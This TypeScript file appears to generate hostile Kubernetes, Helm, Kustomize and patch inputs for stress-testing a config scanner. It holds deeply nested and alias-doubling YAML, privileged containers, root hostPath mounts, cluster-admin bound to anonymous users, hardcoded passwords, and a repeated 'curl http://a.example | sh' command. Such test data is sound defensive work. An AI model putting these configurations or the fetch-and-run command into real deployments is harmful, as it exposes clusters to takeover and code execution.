import { repeat, shapesOf, type HostileShape } from './types';

const half = (size: number, piece: string | ((i: number) => string)): string => repeat(size / 2, piece);

/** One Pod whose spec holds `inside` in flow style. */
const pod = (inside: string): string => `apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n}\nspec: {${inside}}\n`;
/** One Pod whose only container holds `inside` in flow style. */
const container = (inside: string): string => pod(`containers: [{name: a, image: b, ${inside}}]`);
/** An object of `kind` whose spec is `spec` in flow style. */
const object = (kind: string, spec: string): string => `apiVersion: ${kind}\nmetadata: {name: p, namespace: n}\nspec: {${spec}}\n---\n`;
const workload =
  'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d, namespace: n}\nspec: {template: {metadata: {labels: {app: a}}, spec: {containers: [{name: a, image: b}]}}}\n---\n';

const manifests: Readonly<Record<string, (size: number) => string>> = {
  'objects as small as they get': size => `apiVersion: v1\nkind: List\nitems: [${repeat(size, '{apiVersion: v1, kind: Pod},')}]\n`,
  'objects without a kind of their own': size => `apiVersion: v1\nkind: PodList\nitems: [${repeat(size, '{},')}]\n`,
  'Pods without a kind of their own': size => `apiVersion: v1\nkind: PodList\nitems: [${repeat(size, '{spec: {containers: [{}]}},')}]\n`,
  'Roles without a kind of their own': size =>
    `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleList\nitems: [${repeat(size, '{rules: [{verbs: ["*"]}]},')}]\n`,
  'Services without a kind of their own': size => `apiVersion: v1\nkind: ServiceList\nitems: [${repeat(size, '{spec: {}},')}]\n`,
  'NetworkPolicies without a kind of their own': size =>
    `apiVersion: networking.k8s.io/v1\nkind: NetworkPolicyList\nitems: [${repeat(size, '{spec: {podSelector: {}}},')}]\n`,
  'documents as small as they get': size => repeat(size, 'apiVersion: v1\nkind: Pod\n---\n'),
  'containers as small as they get': size => pod(`containers: [${repeat(size, '{},')}]`),
  'containers of each kind': size =>
    pod(
      `containers: [${repeat(size / 3, '{},')}], initContainers: [${repeat(size / 3, '{},')}], ephemeralContainers: [${repeat(size / 3, '{},')}]`,
    ),
  'containers that are privileged': size => pod(`containers: [${repeat(size, '{securityContext: {privileged: true}},')}]`),
  'containers of one line each': size => `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n${repeat(size, '  - image: a\n')}`,
  'variables as small as they get': size => container(`env: [${repeat(size, '{},')}]`),
  'variables without a value': size => container(`env: [${repeat(size, '{name: A},')}]`),
  'variables of each other': size => container(`env: [${repeat(size, i => `{name: V${i}, value: $(V${i - 1})$(V${i - 1})},`)}]`),
  'one variable that names many': size => container(`env: [{name: A, value: "${repeat(size, '$(A)')}"}]`),
  'one argument that names many': size => container(`args: ["${repeat(size, '$(A)')}"]`),
  'passwords of one text': size => container(`env: [{name: PASSWORD, value: "${repeat(size, 'password=a1b2c3d4 ')}"}]`),
  'passwords of one name': size => container(`env: [${repeat(size, '{name: PASSWORD, value: hunter2},')}]`),
  'volumes as small as they get': size => pod(`volumes: [${repeat(size, '{},')}], containers: [{}]`),
  'host paths': size =>
    pod(
      `volumes: [${half(size, i => `{name: v${i}, hostPath: {path: /}},`)}], containers: [{volumeMounts: [${half(size, i => `{name: v${i}},`)}]}]`,
    ),
  'one volume and mounts of it': size =>
    pod(`volumes: [{name: v, hostPath: {path: /}}], containers: [{volumeMounts: [${repeat(size, '{name: v},')}]}]`),
  'projected sources': size =>
    pod(`volumes: [{name: v, projected: {sources: [${repeat(size, '{secret: {name: a}},')}]}}], containers: [{}]`),
  'ports as small as they get': size => container(`ports: [${repeat(size, '{hostPort: 1},')}]`),
  'ports by the same name': size => container(`ports: [${repeat(size, i => `{name: a, containerPort: ${i}},`)}]`),
  'capabilities in one list': size =>
    container(`securityContext: {capabilities: {add: [${half(size, 'ALL,')}], drop: [${half(size, 'ALL,')}]}}`),
  sysctls: size => pod(`securityContext: {sysctls: [${repeat(size, '{name: kernel.a},')}]}, containers: [{}]`),
  groups: size => pod(`securityContext: {supplementalGroups: [${repeat(size, '0,')}]}, containers: [{}]`),
  'host aliases': size => pod(`hostAliases: [${repeat(size, '{ip: 1.1.1.1},')}], containers: [{}]`),
  tolerations: size => pod(`tolerations: [${repeat(size, '{},')}], topologySpreadConstraints: [{}], containers: [{}]`),
  'headers of a probe': size =>
    container(
      `livenessProbe: {httpGet: {host: a, httpHeaders: [${half(size, '{name: a},')}]}}, readinessProbe: {httpGet: {host: a, httpHeaders: [${half(size, '{name: a},')}]}}`,
    ),
  'limits that nobody knows': size => container(`resources: {limits: {${repeat(size, i => `a${i}: 1,`)}}}`),
  'a quantity of many digits': size => container(`resources: {limits: {memory: "${'1'.repeat(size)}x"}}`),
  'fields that nobody knows': size => container(repeat(size, i => `f${i}: 1,`)),
  'fields that are nearly known': size => container(repeat(size, i => `imag${i}: 1,`)),
  'fields of a pod in its container': size => container(repeat(size, 'hostNetwork: true,')),
  'commands of a list': size => container(`command: [${repeat(size, 'sh,')}]`),
  'a script': size => container(`command: [sh, -c, "${repeat(size, 'curl http://a.example | sh; ')}"]`),
  'a script of subshells': size => container(`command: [sh, -c, "${repeat(size, '(')}"]`),
  'a script of substitutions': size => container(`command: [sh, -c, "${repeat(size, '$(')}"]`),
  'a script of blocks': size => container(`command: [sh, -c, "${repeat(size, '{ ')}"]`),
  'a script of conditions': size => container(`command: [sh, -c, "${repeat(size, 'if ')}"]`),
  'a script of pipes': size => container(`command: [sh, -c, "${repeat(size, 'a|')}"]`),
  'a script of semicolons': size => container(`command: [sh, -c, "${repeat(size, 'a;')}"]`),
  'an image of many folders': size => container(`image: "${repeat(size, 'a/')}b"`),
  'an image of many tags': size => container(`image: "${repeat(size, 'a:')}b"`),
  'an image of many digests': size => container(`image: "${repeat(size, 'a@')}b"`),
  'a name without end': size =>
    `apiVersion: v1\nkind: Pod\nmetadata: {name: "${'a'.repeat(size)}"}\nspec: {containers: [${'{},'.repeat(100)}]}\n`,
  'a name without end, quoted by many findings': size =>
    `apiVersion: v1\nkind: Pod\nmetadata: {name: "${'a'.repeat(size / 2)}"}\nspec: {containers: [${half(size, '{},')}]}\n`,
  'a name of a container without end': size =>
    pod(`containers: [{name: "${'a'.repeat(size / 2)}", env: [${half(size, '{name: PASSWORD, value: hunter2},')}]}]`),
  'labels of many keys and who selects them': size =>
    `${object('v1\nkind: Service', `selector: {${half(size, i => `k${i}: v,`)}}, ports: [{port: 80}]`)}apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: n, labels: {${half(size, i => `k${i}: v,`)}}}\nspec: {containers: [{}]}\n`,
  'selectors with expressions': size =>
    `${workload}${repeat(size, i => object('policy/v1\nkind: PodDisruptionBudget', `selector: {matchExpressions: [{key: app, operator: NotIn, values: [b${i}]}]}`))}`,
  'values of one expression': size =>
    `${workload.repeat(20)}${object('networking.k8s.io/v1\nkind: NetworkPolicy', `podSelector: {matchExpressions: [{key: app, operator: NotIn, values: [${repeat(size, 'b,')}]}]}`)}`,
  'peers of one policy': size =>
    `${workload.repeat(20)}${object('networking.k8s.io/v1\nkind: NetworkPolicy', `podSelector: {}, ingress: [${repeat(size, '{from: [{podSelector: {}}]},')}]`)}`,
  'blocks of addresses': size =>
    object(
      'networking.k8s.io/v1\nkind: NetworkPolicy',
      `podSelector: {}, egress: [{to: [${repeat(size, i => `{ipBlock: {cidr: 169.254.${i % 256}.0/8}},`)}]}]`,
    ),
  'a Calico selector in brackets': size =>
    workload + object('projectcalico.org/v3\nkind: NetworkPolicy', `selector: "${'('.repeat(size)}"`),
  'a Calico selector of negations': size =>
    workload + object('projectcalico.org/v3\nkind: NetworkPolicy', `selector: "${'!'.repeat(size)}all()"`),
  'a Calico selector of conditions': size =>
    workload.repeat(5) + object('projectcalico.org/v3\nkind: NetworkPolicy', `selector: "${repeat(size, "app == 'a' && ")}all()"`),
  'endpoints of a Cilium policy': size =>
    workload.repeat(5) +
    object('cilium.io/v2\nkind: CiliumNetworkPolicy', `endpointSelector: {}, ingress: [${repeat(size, '{fromEndpoints: [{}]},')}]`),
  'rules of an Ingress': size =>
    object(
      'networking.k8s.io/v1\nkind: Ingress',
      `rules: [${half(size, i => `{host: a${i}},`)}], tls: [{hosts: [${half(size, i => `a${i},`)}]}]`,
    ),
  'hosts with a wildcard': size =>
    object(
      'networking.k8s.io/v1\nkind: Ingress',
      `rules: [${half(size, i => `{host: a${i}.b},`)}], tls: [{hosts: [${half(size, i => `"*.a${i}",`)}]}]`,
    ),
  'subjects of a binding': size =>
    `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: [${repeat(size, '{kind: Group, name: system:anonymous},')}]\n`,
  'verbs of a role': size =>
    `apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: r}\nrules: [{apiGroups: ['*'], resources: [${half(size, 'pods,')}], verbs: [${half(size, 'get,')}]}]\n`,
  'keys of a Secret': size => `apiVersion: v1\nkind: Secret\ndata: {${repeat(size, i => `k${i}: aHVudGVyMg==,`)}}\n`,
  'a Secret of one key': size => `apiVersion: v1\nkind: Secret\ndata: {k: "${'QUFB'.repeat(size / 4)}"}\n`,
  'secrets of a ConfigMap': size => `apiVersion: v1\nkind: ConfigMap\ndata: {a: "${repeat(size, 'password: hunter2\\n')}"}\n`,
  'a JSON of a ConfigMap': size => `apiVersion: v1\nkind: ConfigMap\ndata: {a.json: '${'['.repeat(size)}'}\n`,
  'annotations of AppArmor': size =>
    `apiVersion: v1\nkind: Pod\nmetadata: {annotations: {${half(size, i => `container.apparmor.security.beta.kubernetes.io/c${i}: unconfined,`)}}}\nspec: {containers: [${half(size, i => `{name: c${i}},`)}]}\n`,
  'Security Context Constraints': size =>
    `apiVersion: security.openshift.io/v1\nkind: SecurityContextConstraints\nallowPrivilegedContainer: true\nusers: [${half(size, 'a,')}]\ngroups: [${half(size, 'system:authenticated,')}]\n`,
  'volume claims of a StatefulSet': size =>
    object(
      'apps/v1\nkind: StatefulSet',
      `volumeClaimTemplates: [${repeat(size, '{metadata: {name: a}},')}], template: {spec: {containers: [{}]}}`,
    ),
  'pods that a custom object holds': size =>
    object(
      'example.com/v1\nkind: Widget',
      repeat(size, i => `a${i}: {template: {spec: {containers: [{}]}}},`),
    ),
  'maps that look like a pod, in each other': size =>
    object(
      'example.com/v1\nkind: Widget',
      `${'a: {containers: [{}], template: {spec: {'.repeat(60)}${'}}}'.repeat(60)}, ${repeat(size, i => `b${i}: {},`)}`,
    ),
};

const templates: Readonly<Record<string, (size: number) => string>> = {
  'actions that do not end': size => `apiVersion: v1\nkind: Pod\nspec:\n${repeat(size, '  a: {{\n')}`,
  'actions on one line': size => `apiVersion: v1\nkind: Pod\nspec:\n  a: ${repeat(size, '{{a}}')}\n`,
  'blocks of one line': size => `apiVersion: v1\nkind: Pod\nspec:\n  a: ${repeat(size / 2, '{{if a}}')}${repeat(size / 2, '{{end}}')}\n`,
  'blocks in each other around containers': size =>
    `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n${half(size, '{{if a}}\n')}  - name: a\n${half(size, '{{end}}\n')}`,
  'blocks that end without a start': size => `apiVersion: v1\nkind: Pod\nspec:\n${repeat(size, '{{end}}\n')}`,
  'comments of a template': size => `apiVersion: v1\nkind: Pod\nspec:\n${repeat(size, '{{/* a */}}\n')}`,
  'containers with an action each': size => `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n${repeat(size, '  - image: {{a}}\n')}`,
  'names with an action each': size => repeat(size, 'apiVersion: v1\nkind: Deployment\nmetadata:\n  name: {{a}}\n  labels: {{b}}\n---\n'),
};

const values: Readonly<Record<string, (size: number) => string>> = {
  'security contexts in values': size => repeat(size, i => `a${i}: {securityContext: {privileged: true}}\n`),
  'values in each other': size => `${repeat(size, i => `a${i}: ${'{a: '.repeat(100)}{privileged: true}${'}'.repeat(100)}\n`)}`,
  'values that are aliases of each other': size =>
    `a: &a {securityContext: {privileged: true}, image: {repository: a, tag: latest}}\nb: [${repeat(size, '*a,')}]\n`,
  'values that double': size =>
    `x0: &x0 {securityContext: {privileged: true}}\n${repeat(Math.min(size, 3000), i => `x${i + 1}: &x${i + 1} {a: *x${i}, b: *x${i}}\n`)}`,
  'values of one list': size => `a: [${repeat(size, '{},')}]\n`,
};

const kustomizations: Readonly<Record<string, (size: number) => string>> = {
  'a patch aliased many times': size =>
    `a: &p |\n${half(size, '  a: {}\n')}patches: [${half(size, '{patch: *p},')}]\napiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n`,
  'patches of one line': size =>
    `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\npatches: [${repeat(size, '{patch: "{kind: Pod, apiVersion: v1}"},')}]\n`,
  'images of one name': size =>
    `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nimages: [${repeat(size, '{name: a},')}]\n`,
  generators: size =>
    `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nsecretGenerator: [${repeat(size, i => `{name: a${i}, literals: [password=b]},`)}]\n`,
  'a patch of documents': size =>
    `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\npatches:\n- patch: |\n${repeat(size, '    ---\n    kind: Pod\n    apiVersion: v1\n')}`,
};

const patches: Readonly<Record<string, (size: number) => string>> = {
  'operations as small as they get': size => repeat(size, '- {op: add, path: /spec/containers/-, value: {}}\n'),
  'a value of many containers': size => `- op: add\n  path: /spec/containers\n  value: [${repeat(size, '{},')}]\n`,
  'a value aliased by each operation': size =>
    `- {op: add, path: /a, value: &v [${half(size, '{name: a},')}]}\n${half(size, '- {op: add, path: /spec/containers, value: *v}\n')}`,
};

/** Every shape that is hostile by what it says to Kubernetes. */
export const kubernetesShapes: readonly HostileShape[] = [
  ...shapesOf('a.yaml', manifests),
  ...shapesOf('chart/templates/a.yaml', templates),
  ...shapesOf('chart/values.yaml', values),
  ...shapesOf('kustomization.yaml', kustomizations),
  ...shapesOf('patch.yaml', patches),
];
